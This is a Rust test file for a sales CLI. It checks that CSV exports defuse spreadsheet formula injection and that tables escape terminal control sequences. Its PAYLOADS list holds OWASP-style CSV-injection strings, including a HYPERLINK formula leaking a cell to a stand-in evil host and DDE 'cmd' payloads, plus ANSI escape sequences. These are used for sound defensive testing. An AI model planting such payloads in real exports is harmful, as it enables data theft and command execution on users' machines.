//! Names and replies come from prospects: every CSV the command writes (`--format csv`,
//! `sync --out FILE.csv`, `import --report`) defuses what a spreadsheet would run as a
//! formula, numbers stay numbers, `--csv-verbatim` writes them as they are; a table shows
//! control characters escaped; JSON and NDJSON stay exact.

use std::process::{Command as Process, Stdio};

use salesflow_emulator::EmulatorConfig;

use super::sync::{member, scratch, succeeds};
use crate::Served as Server;

/// Formulas as the OWASP CSV-injection page and its references write them.
const PAYLOADS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
];

/// A member for each payload, as its first name, last name and reply.
fn server() -> Server {
    let server = crate::emulator(EmulatorConfig::default());
    let added = chrono::Utc::now() - chrono::Duration::days(1);
    let mut state = server.emulator.state();
    for (index, payload) in PAYLOADS.iter().enumerate() {
        let id = index as i64 + 1;
        let mut contact = member(id, added, None);
        contact.first_name = Some((*payload).to_owned());
        contact.last_name = Some(format!("\u{1b}[2J\u{1b}[31mEvil\rTab\there {id}"));
        contact.occupation = Some("-42".to_owned());
        contact.messages.push(
            serde_json::from_value(serde_json::json!({
                "ConversationMessageId": 500 + id, "CreatedAt": added, "Text": payload,
            }))
            .unwrap(),
        );
        state.contacts.insert(id, contact);
    }
    drop(state);
    server
}

fn salesflow(server: &Server) -> Process {
    let mut command = Process::new(env!("CARGO_BIN_EXE_salesflow"));
    command
        .env("SALESFLOW_TOKEN", server.emulator.token())
        .env("SALESFLOW_BASE_URL", server.emulator.base_url())
        .env("SALESFLOW_ACCOUNT_ID", "321")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    command
}

/// The cells of a CSV text, as a spreadsheet reads them.
fn cells(csv_text: &[u8]) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text)
        .records()
        .flat_map(|record| {
            record
                .unwrap()
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Cells a spreadsheet would run as a formula: text that starts with `=`, `+`, `-`, `@`,
/// a tab or a carriage return and is not a plain number.
fn formulas(cells: &[String]) -> Vec<&String> {
    cells
        .iter()
        .filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .filter(|cell| cell.parse::<f64>().is_err())
        .collect()
}

#[test]
fn every_csv_the_command_writes_defuses_formulas_and_keeps_numbers() {
    let server = server();
    let dir = scratch("untrusted-csv");

    // --format csv of a listing, and of the replies.
    for args in [
        &["list-contacts-by-campaign", "--campaign-id", "789"][..],
        &[
            "list-incoming-messages-by-campaign",
            "--campaign-id",
            "789",
            "--from",
            "2020-01-01",
        ][..],
    ] {
        let output = succeeds(salesflow(&server).args(args).args(["--format", "csv"]));
        let found = cells(&output.stdout);
        assert_eq!(formulas(&found), Vec::<&String>::new(), "{args:?}");
        for payload in PAYLOADS {
            assert!(
                found.contains(&format!("'{payload}")),
                "{payload:?} in {args:?}"
            );
        }
        let verbatim =
            succeeds(
                salesflow(&server)
                    .args(args)
                    .args(["--format", "csv", "--csv-verbatim"]),
            );
        assert_eq!(
            formulas(&cells(&verbatim.stdout)).len(),
            PAYLOADS.len(),
            "{args:?}"
        );
    }
    let contacts = succeeds(salesflow(&server).args([
        "list-contacts-by-campaign",
        "--campaign-id",
        "789",
        "--format",
        "csv",
    ]));
    assert!(
        cells(&contacts.stdout).contains(&"-42".to_owned()),
        "a number stays a number"
    );

    // sync --out FILE.csv, contacts and messages.
    for kind in ["contacts", "messages"] {
        let out = dir.join(format!("{kind}.csv"));
        let mut command = salesflow(&server);
        command.args(["sync", kind]);
        if kind == "messages" {
            command.args(["--since", "2020-01-01"]);
        }
        succeeds(
            command
                .arg("--state")
                .arg(dir.join(format!("{kind}.json")))
                .arg("--out")
                .arg(&out),
        );
        let cells = cells(&std::fs::read(&out).unwrap());
        assert_eq!(formulas(&cells), Vec::<&String>::new(), "sync {kind}");
        assert!(cells.contains(&format!("'{}", PAYLOADS[0])), "sync {kind}");
    }

    // import --report: the file's URLs (refused as rows) and their errors.
    let leads = dir.join("leads.csv");
    let mut text = String::from("LinkedIn URL,First Name\n");
    for payload in PAYLOADS {
        text.push_str(&format!("\"{}\",Ann\n", payload.replace('"', "\"\"")));
    }
    text.push_str("https://www.linkedin.com/in/ann-example,\"=1+1\"\n");
    std::fs::write(&leads, text).unwrap();
    let report = dir.join("report.csv");
    let output = salesflow(&server)
        .args(["import", "--campaign-id", "789"])
        .arg(&leads)
        .arg("--report")
        .arg(&report)
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let cells = cells(&std::fs::read(&report).unwrap());
    assert_eq!(formulas(&cells), Vec::<&String>::new(), "the report");
    assert!(cells.contains(&format!("'{}", PAYLOADS[1])), "{cells:?}");
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn a_table_shows_control_characters_escaped_and_json_stays_exact() {
    let server = server();
    let table = succeeds(salesflow(&server).args([
        "list-contacts-by-campaign",
        "--campaign-id",
        "789",
        "--format",
        "table",
    ]));
    let text = String::from_utf8(table.stdout).unwrap();
    assert!(
        !text.chars().any(|c| c.is_control() && c != '\n'),
        "no raw control character: {text:?}"
    );
    assert!(
        text.contains("\\u{1b}[2J\\u{1b}[31mEvil\\rTab\\there 1"),
        "{text}"
    );
    assert_eq!(
        text.lines().count(),
        2 + PAYLOADS.len(),
        "a header, its rule, one line a contact: {text}"
    );

    let json = succeeds(salesflow(&server).args([
        "list-contacts-by-campaign",
        "--campaign-id",
        "789",
        "--format",
        "ndjson",
    ]));
    let first: serde_json::Value = serde_json::from_str(
        String::from_utf8(json.stdout)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(first["FirstName"], PAYLOADS[0]);
    assert_eq!(first["LastName"], "\u{1b}[2J\u{1b}[31mEvil\rTab\there 1");
}
